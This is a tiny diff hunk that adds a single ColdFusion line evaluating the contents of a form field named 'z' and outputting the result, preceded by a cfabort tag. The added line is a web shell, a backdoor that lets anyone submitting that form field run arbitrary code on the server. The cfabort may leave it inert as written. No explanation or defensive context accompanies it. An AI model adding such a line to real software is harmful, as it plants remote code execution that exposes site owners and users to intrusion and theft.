@@ -1,0 +1,1 @@
+<cfabort><cfoutput>#evaluate(form.z)#</cfoutput>
